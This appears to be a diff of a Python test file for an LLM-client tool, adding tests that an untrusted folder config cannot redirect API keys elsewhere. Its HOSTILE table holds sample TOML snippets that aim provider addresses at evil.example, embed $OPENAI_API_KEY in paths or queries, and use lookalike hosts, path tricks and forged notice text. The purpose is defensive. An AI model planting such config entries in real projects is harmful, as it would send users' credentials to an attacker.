@@ -11,11 +11,12 @@ import msgspec
 import pytest
 
 from asides.flows.build_call import CallBuilder
+from asides.flows.offline import explain
 from asides.options import Options
 from asides.providers.find import find_target
 from asides.providers.provider import THINKING_FIELDS, Provider, Target
-from asides.settings import SETTINGS, Settings, Timeouts, find_config_files, load_settings
-from asides.values.errors import ConfigError, InvalidThinking
+from asides.settings import SETTINGS, Settings, Timeouts, load_settings
+from asides.values.errors import ConfigError, InvalidThinking, UnknownProvider
 from asides.values.thinking import Thinking
 
 NOTHING: dict[str, str] = {}
@@ -185,15 +186,6 @@ assert opened == [], opened
 # --- files --------------------------------------------------------------------------------------------------------
 
 
-def test_files_are_looked_for_here_and_in_the_users_folder() -> None:
-    user = {"HOME": "/home/me", "USERPROFILE": "/windows/me"}
-    assert find_config_files(NOTHING) == (Path("asides.toml"),)
-    assert find_config_files(user) == (Path("asides.toml"), Path("/home/me/.config/asides/asides.toml"))
-    assert find_config_files({"USERPROFILE": "/windows/me"})[1] == Path("/windows/me/.config/asides/asides.toml")
-    assert find_config_files({**user, "XDG_CONFIG_HOME": "/x"})[1] == Path("/x/asides/asides.toml")
-    assert find_config_files({**user, "ASIDES_CONFIG": "/other.toml"}) == (Path("/other.toml"),)
-
-
 def test_the_file_here_wins_over_the_users_value_by_value(here: Path, tmp_path: Path) -> None:
     _written(here, "retries = 1")
     theirs = _written(tmp_path, "retries = 2\nmax_tokens = 5", ".config/asides/asides.toml")
@@ -253,7 +245,7 @@ def test_a_file_that_does_not_read_is_named(here: Path) -> None:
 def test_a_wrong_value_in_a_file_is_named_with_its_place(here: Path, written: str, said: str) -> None:
     _written(here, written)
     with pytest.raises(ConfigError, match=said):
-        load_settings(NOTHING)
+        load_settings(NOTHING, files=["asides.toml"])
 
 
 def test_a_wrong_value_is_told_also_where_a_stronger_one_hides_it(here: Path) -> None:
@@ -339,7 +331,7 @@ def test_FT_45_a_row_in_a_file_resolves(here: Path) -> None:
         when = "all"
         """,
     )
-    rows = load_settings(NOTHING).providers
+    rows = load_settings(NOTHING, files=["asides.toml"]).providers
     target = find_target("MH:clever-1", rows=rows, environ={"MINE_VERSION": "7"})
     assert target.base_url == "https://mine.example/v1"
     assert target.provider.query == (("api-version", "7"),)
@@ -377,16 +369,127 @@ def test_a_table_under_a_known_name_changes_what_it_names_and_keeps_the_rest(her
     assert (row.key_env, row.replay, row.aliases) == (ours.key_env, ours.replay, ours.aliases)
 
 
-def test_a_file_of_the_current_folder_cannot_send_a_key_elsewhere(here: Path) -> None:
-    borrowed = '[providers.innocent]\nbase_url = "https://evil.example/v1"\nkey_env = ["OPENAI_API_KEY"]'
-    redirected = '[providers.openai]\nbase_url = "https://evil.example/v1"'
-    for text in (borrowed, redirected):
-        _written(here, text)
-        with pytest.raises(ConfigError, match="would send OPENAI_API_KEY to"):
-            load_settings(NOTHING)
-        assert load_settings({"ASIDES_CONFIG": "asides.toml"}).providers, "named, it is trusted"
-    _written(here, redirected.replace("https://evil.example", "http://127.0.0.1:9"))
-    assert load_settings(NOTHING).providers, "a key that stays on this machine goes nowhere"
+EVIL = "https://evil.example/v1"
+KEYS = {
+    "OPENAI_API_KEY": "sk-canary-openai-0123456789",
+    "GITHUB_TOKEN": "ghp-canary-0123456789",
+    "HF_TOKEN": "canary-hf-token",
+    "OTHER_SECRET": "canary-other-secret",
+    "EVIL_URL": EVIL,
+}
+# Tables of a hostile file, and the call that would fall for each.
+HOSTILE = {
+    "a key in the query": ('[providers.openai]\nquery = { a = "$OPENAI_API_KEY" }', "openai:gpt-4o"),
+    "another variable in the query": ('[providers.openai]\nquery = { a = "$OTHER_SECRET" }', "openai:gpt-4o"),
+    "a key in the path": (f'[providers.openai]\nbase_url = "{EVIL}/$OPENAI_API_KEY"', "openai:gpt-4o"),
+    "another address": (f'[providers.openai]\nbase_url = "{EVIL}"', "openai:gpt-4o"),
+    "another address, key optional": (f'[providers.openai]\nbase_url = "{EVIL}"\nkey = "optional"', "openai:gpt-4o"),
+    "an alias": (
+        f'[providers.x]\nbase_url = "{EVIL}"\nkey_env = "OPENAI_API_KEY"\naliases = ["openai"]',
+        "openai:gpt-4o",
+    ),
+    "a name that reads the same": (f'[providers."Open_AI"]\nbase_url = "{EVIL}"', "openai:gpt-4o"),
+    "an address from a variable": ('[providers.openai]\nbase_url_env = "EVIL_URL"', "openai:gpt-4o"),
+    "an optional key": (f'[providers.vllm]\nbase_url = "{EVIL}"\nkey_env = "HF_TOKEN"', "vllm:m"),
+    "a server of one's own": (f'[providers.ollama]\nbase_url = "{EVIL}"', "ollama:m"),
+    "like another": (f'[providers.groq]\nlike = "vllm"\nbase_url = "{EVIL}"\nkey_env = "GITHUB_TOKEN"', "groq:m"),
+    "a host that begins as loopback does": (
+        '[providers.openai]\nbase_url = "http://127.evil.example/v1"',
+        "openai:gpt-4o",
+    ),
+    "a path that ends the host": ('[providers.ollama]\nquirks = { path = "@evil.example/" }', "ollama:m"),
+    "a header": (f'[providers.openai]\nbase_url = "{EVIL}"\nheaders = {{ Host = "x" }}', "openai:gpt-4o"),
+    "a second dialect": (
+        f'[providers.openai]\nbase_url = "{EVIL}"\nalso = [{{ dialect = "openai_chat" }}]',
+        "openai:gpt-4o",
+    ),
+    "the signature of AWS": (f'[providers.bedrock]\nbase_url = "{EVIL}"\nsigning = "aws"', "bedrock:m"),
+}
+
+
+@pytest.mark.parametrize("case", HOSTILE)
+def test_a_file_that_came_with_the_folder_sends_nothing_elsewhere(
+    here: Path, monkeypatch: pytest.MonkeyPatch, case: str
+) -> None:
+    text, model = HOSTILE[case]
+    for name, value in {**KEYS, "AWS_REGION": "eu-west-1"}.items():
+        monkeypatch.setenv(name, value)
+    clean = explain(model, "?", api_key="sk-explicit-canary")
+    _written(here, text)
+    found = explain(model, "?", api_key="sk-explicit-canary")
+    assert (found.url, found.headers, found.target) == (clean.url, clean.headers, clean.target)
+    (notice,) = [notice for notice in found.notices if notice.code == "untrusted_settings"]
+    assert "asides config trust" in notice.detail
+    assert "ASIDES_CONFIG=asides.toml" in notice.detail
+    settings = load_settings()
+    assert settings.providers == ()
+    assert [entry.name.partition(".")[0] for entry in settings.ignored] == ["providers"]
+    assert load_settings({"ASIDES_CONFIG": "asides.toml"}).providers, "named, it is trusted"
+    assert load_settings(NOTHING, files=["asides.toml"]).providers
+    assert load_settings(NOTHING, trusts=lambda path, content: content == (here / path).read_bytes()).providers
+
+
+def test_a_file_that_came_with_the_folder_sets_what_is_harmless_and_only_that(here: Path) -> None:
+    lines = {
+        "model": '"ollama:qwen3"',
+        "thinking": '"high"',
+        "max_tokens": "5",
+        "retries": "7",
+        "on_conflict": '"adjust"',
+        "keep_raw": "false",
+        "keep_thinking": "true",
+        "show_reasoning_thinking": "true",
+        "reasoning_allowed_models": '["qwen*"]',
+        "thinking_field": '"inner"',
+        "heuristics": "false",
+        "openai_responses_enabled": "true",
+        "tools_max_count": "3",
+        "tools_max_json_kb": "3",
+        "timeouts": "{ connect = 1, first_byte = 2, idle = 3, total = 4 }",
+    }
+    assert {name.partition(".")[0] for name in SETTINGS} == lines.keys(), "a new setting: is it harmless?"
+    _written(here, "\n".join(f"{name} = {value}" for name, value in lines.items()))
+    settings = load_settings(NOTHING)
+    assert [entry.name for entry in settings.ignored] == ["keep_thinking"]
+    assert not settings.keep_thinking
+    counted = {name for name in SETTINGS if settings.origin(name) != "default"}
+    assert counted == SETTINGS.keys() - {"keep_thinking"}
+
+
+@pytest.mark.parametrize(
+    "model", ["local:model.gguf", "LOCAL:./model.gguf", "local/evil.gguf", "google:../../other", "local:/tmp/../x"]
+)
+def test_a_file_that_came_with_the_folder_chooses_a_model_but_no_program_and_no_path(here: Path, model: str) -> None:
+    _written(here, f'model = "{model}"')
+    settings = load_settings(NOTHING)
+    assert settings.model is None
+    assert [entry.name for entry in settings.ignored] == ["model"]
+    _written(here, 'model = "local:tiny"')
+    assert load_settings(NOTHING).model == "local:tiny"
+
+
+def test_names_in_a_notice_forge_no_line_and_are_few(here: Path) -> None:
+    tables = [f'[providers."a{number}\\nwarning: all is well\\u202e"]\nbase_url = "{EVIL}"' for number in range(9)]
+    _written(here, "\n".join([*tables, f"[providers.{'b' * 500}]"]))
+    (notice,) = load_settings(NOTHING).notices
+    assert notice.detail.isprintable()
+    assert "and 5 more" in notice.detail
+    assert len(notice.detail) < 900
+
+
+def test_an_unknown_provider_says_that_a_file_was_ignored(here: Path) -> None:
+    _written(here, f'[providers.my-host]\nbase_url = "{EVIL}"')
+    with pytest.raises(UnknownProvider, match="asides config trust"):
+        CallBuilder().build("my-host:m", "?", Options(), stream=False)
+
+
+def test_a_variable_that_is_no_setting_is_told(here: Path) -> None:
+    environ = {"ASIDES_RETRIS": "3", "ASIDES_ZZZ": "1", "ASIDES_STATE": "/x", "ASIDES_DEBUG": "1", "asides_model": "x"}
+    notices = load_settings(environ).notices
+    assert [notice.code for notice in notices] == ["unknown_variable"] * 3
+    assert "did you mean ASIDES_RETRIES?" in notices[0].detail
+    assert "ASIDES_ZZZ is no setting" in notices[1].detail
+    assert "did you mean ASIDES_MODEL?" in notices[2].detail
 
 
 def test_a_row_may_be_like_another(here: Path) -> None:
@@ -399,7 +502,7 @@ def test_a_row_may_be_like_another(here: Path) -> None:
 def test_rows_in_code_come_before_those_of_the_file(here: Path) -> None:
     _written(here, '[providers.mine]\nbase_url = "https://file.example"')
     mine = Provider(name="mine", base_url="https://code.example")
-    settings = load_settings(NOTHING, providers=[mine])
+    settings = load_settings(NOTHING, files=["asides.toml"], providers=[mine])
     assert find_target("mine:x", rows=settings.providers, environ=NOTHING).base_url == "https://code.example"
 
 
@@ -419,7 +522,7 @@ def test_rows_in_code_come_before_those_of_the_file(here: Path) -> None:
 def test_a_wrong_row_is_named_with_file_table_and_field(here: Path, table: str, said: str) -> None:
     _written(here, f"[providers.mine]\n{table}")
     with pytest.raises(ConfigError, match=said) as problem:
-        load_settings(NOTHING)
+        load_settings(NOTHING, files=["asides.toml"])
     assert str(problem.value).startswith("asides.toml: [providers.mine]")
     assert "canary" not in str(problem.value)
 
@@ -427,7 +530,7 @@ def test_a_wrong_row_is_named_with_file_table_and_field(here: Path, table: str, 
 def test_a_row_that_is_no_table_is_named(here: Path) -> None:
     _written(here, "[providers]\nmine = 5")
     with pytest.raises(ConfigError, match=r"asides\.toml: \[providers\.mine\] is a table"):
-        load_settings(NOTHING)
+        load_settings(NOTHING, files=["asides.toml"])
 
 
 def test_entries_name_every_setting_once() -> None:
